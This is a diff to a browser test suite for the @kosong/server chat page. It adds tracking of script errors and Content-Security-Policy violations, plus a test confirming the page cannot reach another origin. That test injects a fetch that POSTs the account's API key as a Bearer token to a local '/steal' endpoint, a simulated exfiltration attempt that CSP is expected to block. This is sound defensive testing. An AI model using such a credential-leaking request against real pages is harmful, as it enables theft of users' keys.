@@ -1,5 +1,7 @@
 import { expect } from 'chai';
 import { accessSync, constants, mkdtempSync } from 'node:fs';
+import { createServer as createHttpServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { delimiter, join } from 'node:path';
 
@@ -105,6 +107,8 @@ describe('@kosong/server: the web page in Chromium (useChat and the step timelin
   let url: string;
   let page: Page;
   const approverLog: string[] = [];
+  /** Script errors and CSP violations the page reported. */
+  const problems: string[] = [];
   const shots = mkdtempSync(join(tmpdir(), 'kosong-page-'));
 
   /** Writes a screenshot to the temporary folder and prints its path. */
@@ -159,13 +163,19 @@ describe('@kosong/server: the web page in Chromium (useChat and the step timelin
     // starts from a blank tab without the previous one's key or messages.
     if (page === undefined) {
       page = await (await browser.newContext({ viewport: { width: 1280, height: 800 } })).newPage();
-      page.on('pageerror', (error) => console.log(`      page error: ${error.message}`));
+      page.on('pageerror', (error) => problems.push(`page error: ${error.message}`));
+      page.on('console', (message) => void (/Content Security Policy/i.test(message.text()) && problems.push(`CSP: ${message.text()}`)));
       if (process.env.DEBUG_PAGE) page.on('response', (r) => console.log(`      ${r.request().method()} ${r.url()} ${r.status()}`));
       if (process.env.DEBUG_PAGE) page.on('console', (m) => console.log(`      console: ${m.text()}`));
     }
     await page.goto('about:blank');
     await page.context().clearCookies();
     openGates();
+  });
+  afterEach(() => {
+    // No script error and no breach of the page's Content-Security-Policy, in any test.
+    const seen = problems.splice(0);
+    expect(seen).to.deep.equal([]);
   });
 
   it('streams the text as it comes, shows the tool rows (in call order, with results) before the text ends, then usage', async () => {
@@ -322,6 +332,26 @@ describe('@kosong/server: the web page in Chromium (useChat and the step timelin
     await page.locator('.status[data-status="ready"]').waitFor();
     expect(approverLog).to.deep.equal(['add']); // the denied call never ran
     expect(await page.locator('.timeline .row.tool[data-tool-call-id="d1"]').first().getAttribute('data-state')).to.equal('denied');
+  });
+
+  it("cannot send anything to another origin: its Content-Security-Policy refuses the request before it leaves", async () => {
+    const received: string[] = [];
+    const other = createHttpServer((request, response) => {
+      received.push(`${request.method} ${request.url}`);
+      response.end('ok');
+    });
+    await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
+    try {
+      const otherUrl = `http://127.0.0.1:${(other.address() as AddressInfo).port}/steal`;
+      await openPage(KEYS.acme);
+      const outcome = await page.evaluate(`fetch(${JSON.stringify(otherUrl)}, { method: 'POST', headers: { authorization: 'Bearer ${KEYS.acme}' } }).then(() => 'sent', (error) => 'refused: ' + error.message)`);
+      expect(outcome).to.match(/^refused: /);
+      expect(received).to.deep.equal([]);
+      const refusals = problems.splice(0);
+      expect(refusals.some((text) => text.includes('connect-src'))).to.equal(true);
+    } finally {
+      await new Promise((resolve) => other.close(resolve));
+    }
   });
 
   describe('a server that takes requests without a key (as kosong serve does with none, from its machine)', () => {
